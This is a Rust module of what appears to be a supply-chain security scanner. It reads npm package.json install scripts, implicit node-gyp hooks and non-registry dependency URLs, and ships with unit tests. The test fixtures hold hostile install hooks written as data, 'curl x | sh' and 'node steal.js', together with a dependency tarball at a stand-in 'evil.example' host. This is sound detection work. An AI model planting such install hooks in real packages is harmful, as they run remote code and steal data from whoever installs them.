//! npm: `package.json` scripts, dependencies, and the implicit `node-gyp rebuild`.

use ossprey_model::{Dependency, HookTrigger, InstallHook, ManifestFacts};
use serde_json::Value;

use super::read_text;
use crate::PackageFiles;

/// Scripts npm runs on `npm install`, in the order it runs them.
const INSTALL_SCRIPTS: [(&str, HookTrigger); 4] = [
    ("preinstall", HookTrigger::NpmPreinstall),
    ("install", HookTrigger::NpmInstall),
    ("postinstall", HookTrigger::NpmPostinstall),
    ("prepare", HookTrigger::NpmPrepare),
];

const DEPENDENCY_SECTIONS: [(&str, &str); 4] = [
    ("dependencies", "runtime"),
    ("devDependencies", "dev"),
    ("optionalDependencies", "optional"),
    ("peerDependencies", "peer"),
];

pub(super) fn extract(files: &PackageFiles, facts: &mut ManifestFacts) {
    let root = files.root();
    let path = format!("{root}package.json");
    let Some(text) = read_text(files, &path, &mut facts.problems) else {
        if files.get(&path).is_none() {
            facts.problems.push(format!("{path}: missing"));
        }
        return;
    };
    facts.manifest_path = Some(path.clone());
    let json: Value = match serde_json::from_str(&text) {
        Ok(v) => v,
        Err(e) => {
            facts.problems.push(format!("{path}: invalid JSON: {e}"));
            // npm would refuse this package, but a binding.gyp is still a fact.
            binding_gyp(files, root, None, facts);
            return;
        }
    };
    let Some(obj) = json.as_object() else {
        facts.problems.push(format!("{path}: not a JSON object"));
        return;
    };
    facts.name = string_field(obj, "name");
    facts.version = string_field(obj, "version");
    facts.description = string_field(obj, "description");
    facts.homepage = string_field(obj, "homepage").filter(|h| !h.trim().is_empty());
    // `"repository": "user/repo"` or `{ "type": "git", "url": "…" }`; likewise
    // `author`: `"Name <mail>"` or `{ "name": …, "email": … }`. Blank values are absent.
    let text_or = |key: &str, inner: &[&str]| {
        let text = match obj.get(key)? {
            Value::String(s) => Some(s.as_str()),
            Value::Object(o) => inner.iter().find_map(|k| o.get(*k).and_then(Value::as_str)),
            _ => None,
        };
        text.map(str::trim)
            .filter(|t| !t.is_empty())
            .map(str::to_owned)
    };
    facts.repository = text_or("repository", &["url", "directory"]);
    facts.author = text_or("author", &["name", "email", "url"]).or_else(|| {
        // No `author`: the first of `contributors` or `maintainers` stands in.
        ["contributors", "maintainers"].iter().find_map(|key| {
            obj.get(*key)?.as_array()?.iter().find_map(|c| match c {
                Value::String(s) => Some(s.clone()),
                Value::Object(o) => o.get("name").and_then(Value::as_str).map(str::to_owned),
                _ => None,
            })
        })
    });

    let scripts = obj.get("scripts").and_then(Value::as_object);
    if let Some(scripts) = scripts {
        for (name, trigger) in INSTALL_SCRIPTS {
            match scripts.get(name) {
                Some(Value::String(command)) => facts.install_hooks.push(InstallHook {
                    trigger,
                    path: path.clone(),
                    command: Some(command.clone()),
                    detail: None,
                }),
                Some(other) => facts
                    .problems
                    .push(format!("{path}: scripts.{name} is not a string: {other}")),
                None => {}
            }
        }
    }
    binding_gyp(files, root, Some(obj), facts);

    for (section, kind) in DEPENDENCY_SECTIONS {
        let Some(deps) = obj.get(section).and_then(Value::as_object) else {
            continue;
        };
        for (name, spec) in deps {
            let requirement = match spec {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            facts.dependencies.push(Dependency {
                name: name.clone(),
                url: npm_spec_url(&requirement).map(str::to_owned),
                requirement: Some(requirement),
                kind: kind.to_owned(),
            });
        }
    }
}

fn string_field(obj: &serde_json::Map<String, Value>, key: &str) -> Option<String> {
    obj.get(key).and_then(Value::as_str).map(str::to_owned)
}

/// npm runs `node-gyp rebuild` for a root `binding.gyp` unless the package has
/// its own `install`/`preinstall` script or sets `"gypfile": false`.
fn binding_gyp(
    files: &PackageFiles,
    root: &str,
    manifest: Option<&serde_json::Map<String, Value>>,
    facts: &mut ManifestFacts,
) {
    let gyp = format!("{root}binding.gyp");
    if files.get(&gyp).is_none() {
        return;
    }
    let scripts = manifest
        .and_then(|m| m.get("scripts"))
        .and_then(Value::as_object);
    let has_install =
        scripts.is_some_and(|s| s.contains_key("install") || s.contains_key("preinstall"));
    let disabled = manifest.and_then(|m| m.get("gypfile")) == Some(&Value::Bool(false));
    if !has_install && !disabled {
        facts.install_hooks.push(InstallHook {
            trigger: HookTrigger::BindingGyp,
            path: gyp,
            command: Some("node-gyp rebuild".to_owned()),
            detail: None,
        });
    }
}

/// The URL or path of a dependency spec that does not come from the registry.
///
/// Covers `http(s):` tarballs, `git+…:`/`git:` URLs, hosted shorthands
/// (`github:`, `gitlab:`, `bitbucket:`, `gist:`, and bare `user/repo`),
/// and local `file:`/`link:`/relative paths.
pub(crate) fn npm_spec_url(spec: &str) -> Option<&str> {
    let spec = spec.trim();
    let lower = spec.to_ascii_lowercase();
    const PREFIXES: [&str; 10] = [
        "http:",
        "https:",
        "git:",
        "git+",
        "github:",
        "gitlab:",
        "bitbucket:",
        "gist:",
        "file:",
        "link:",
    ];
    if PREFIXES.iter().any(|p| lower.starts_with(p)) {
        return Some(spec);
    }
    if spec.starts_with("./")
        || spec.starts_with("../")
        || spec.starts_with('/')
        || spec.starts_with("~/")
    {
        return Some(spec);
    }
    // `user/repo` or `user/repo#ref`: no scheme, no spaces, one slash before any `#`.
    // `npm:@scope/pkg@1` aliases and version ranges never look like this.
    let repo = spec.split('#').next().unwrap_or("");
    let shorthand = !spec.starts_with('@')
        && !lower.starts_with("npm:")
        && repo.matches('/').count() == 1
        && repo.split('/').all(|part| {
            !part.is_empty()
                && part
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        });
    shorthand.then_some(spec)
}

#[cfg(test)]
mod tests {
    use ossprey_model::Ecosystem;

    use super::*;
    use crate::manifest::extract;

    fn npm(files: &[(&str, &str)]) -> ManifestFacts {
        extract(
            &PackageFiles::from_memory(files.iter().copied()),
            Ecosystem::Npm,
        )
    }

    #[test]
    fn homepage_repository_and_author_in_their_forms() {
        let facts = npm(&[(
            "package/package.json",
            r#"{"name":"a","homepage":"https://a.example","repository":{"type":"git","url":"git+https://example.invalid/a.git"},"author":{"name":"Ann"}}"#,
        )]);
        assert_eq!(facts.homepage.as_deref(), Some("https://a.example"));
        assert_eq!(
            facts.repository.as_deref(),
            Some("git+https://example.invalid/a.git")
        );
        assert_eq!(facts.author.as_deref(), Some("Ann"));
        let facts = npm(&[(
            "package/package.json",
            r#"{"name":"a","repository":"user/a","author":"","contributors":[{"name":"Bo"}]}"#,
        )]);
        assert_eq!(facts.homepage, None);
        assert_eq!(facts.repository.as_deref(), Some("user/a"));
        assert_eq!(facts.author.as_deref(), Some("Bo"));
    }

    #[test]
    fn install_scripts_become_hooks_in_order() {
        let facts = npm(&[(
            "package/package.json",
            r#"{"name":"evil","version":"1.0.0","description":"d","scripts":{
                "postinstall":"node steal.js","preinstall":"curl x | sh","install":"node-gyp rebuild",
                "prepare":"tsc","test":"jest"}}"#,
        )]);
        assert_eq!(facts.name.as_deref(), Some("evil"));
        assert_eq!(facts.version.as_deref(), Some("1.0.0"));
        assert_eq!(facts.description.as_deref(), Some("d"));
        assert_eq!(facts.manifest_path.as_deref(), Some("package/package.json"));
        let hooks: Vec<_> = facts
            .install_hooks
            .iter()
            .map(|h| (h.trigger, h.command.as_deref().unwrap()))
            .collect();
        assert_eq!(
            hooks,
            [
                (HookTrigger::NpmPreinstall, "curl x | sh"),
                (HookTrigger::NpmInstall, "node-gyp rebuild"),
                (HookTrigger::NpmPostinstall, "node steal.js"),
                (HookTrigger::NpmPrepare, "tsc"),
            ]
        );
        assert!(
            facts
                .install_hooks
                .iter()
                .all(|h| h.path == "package/package.json")
        );
    }

    #[test]
    fn test_and_build_scripts_are_not_install_hooks() {
        let facts = npm(&[(
            "package/package.json",
            r#"{"name":"ok","scripts":{"test":"node x","build":"tsc","preinstallish":"x","postpublish":"y"}}"#,
        )]);
        assert!(facts.install_hooks.is_empty());
        assert!(facts.problems.is_empty());
    }

    #[test]
    fn binding_gyp_without_install_script_runs_node_gyp() {
        let facts = npm(&[
            ("package/package.json", r#"{"name":"native"}"#),
            ("package/binding.gyp", "{}"),
        ]);
        assert_eq!(facts.install_hooks.len(), 1);
        assert_eq!(facts.install_hooks[0].trigger, HookTrigger::BindingGyp);
        assert_eq!(facts.install_hooks[0].path, "package/binding.gyp");
    }

    #[test]
    fn binding_gyp_with_own_install_script_or_gypfile_false_is_not_a_gyp_hook() {
        let facts = npm(&[
            (
                "package/package.json",
                r#"{"scripts":{"install":"prebuild-install"}}"#,
            ),
            ("package/binding.gyp", "{}"),
        ]);
        assert_eq!(
            facts
                .install_hooks
                .iter()
                .map(|h| h.trigger)
                .collect::<Vec<_>>(),
            [HookTrigger::NpmInstall]
        );
        let facts = npm(&[
            ("package/package.json", r#"{"gypfile":false}"#),
            ("package/binding.gyp", "{}"),
        ]);
        assert!(facts.install_hooks.is_empty());
        // A binding.gyp below the root is not what npm looks at.
        let facts = npm(&[
            ("package/package.json", "{}"),
            ("package/deps/x/binding.gyp", "{}"),
        ]);
        assert!(facts.install_hooks.is_empty());
    }

    #[test]
    fn bad_json_is_a_problem_not_an_error() {
        let facts = npm(&[(
            "package/package.json",
            r#"{"name": "x", "scripts": {"postinstall": "#,
        )]);
        assert_eq!(facts.ecosystem, Some(Ecosystem::Npm));
        assert_eq!(facts.manifest_path.as_deref(), Some("package/package.json"));
        assert_eq!(facts.problems.len(), 1, "{:?}", facts.problems);
        assert!(facts.problems[0].contains("invalid JSON"));
        let facts = npm(&[("package/package.json", "[1,2]")]);
        assert!(facts.problems[0].contains("not a JSON object"));
    }

    #[test]
    fn dependencies_with_kinds_and_urls() {
        let facts = npm(&[(
            "package/package.json",
            r#"{"dependencies":{"lodash":"^4.17.21","tar":"https://evil.example/t.tgz","g":"git+ssh://git@github.com/a/b.git",
                "h":"github:a/b","s":"user/repo#v1","f":"file:../x","l":"link:./y","alias":"npm:@scope/pkg@1.0.0",
                "range":">= 1.0 < 2"},
               "devDependencies":{"jest":"29"},"optionalDependencies":{"fsevents":"2"},
               "peerDependencies":{"react":"*"}}"#,
        )]);
        let mut got: Vec<_> = facts
            .dependencies
            .iter()
            .map(|d| (d.name.as_str(), d.kind.as_str(), d.url.is_some()))
            .collect();
        got.sort_unstable();
        assert_eq!(
            got,
            [
                ("alias", "runtime", false),
                ("f", "runtime", true),
                ("fsevents", "optional", false),
                ("g", "runtime", true),
                ("h", "runtime", true),
                ("jest", "dev", false),
                ("l", "runtime", true),
                ("lodash", "runtime", false),
                ("range", "runtime", false),
                ("react", "peer", false),
                ("s", "runtime", true),
                ("tar", "runtime", true),
            ]
        );
        let dep = |n: &str| facts.dependencies.iter().find(|d| d.name == n).unwrap();
        assert_eq!(
            dep("tar").url.as_deref(),
            Some("https://evil.example/t.tgz")
        );
        assert_eq!(dep("lodash").requirement.as_deref(), Some("^4.17.21"));
    }

    #[test]
    fn missing_package_json_is_a_problem() {
        let facts = npm(&[("package/index.js", "x")]);
        assert_eq!(facts.problems, ["package/package.json: missing"]);
    }
}
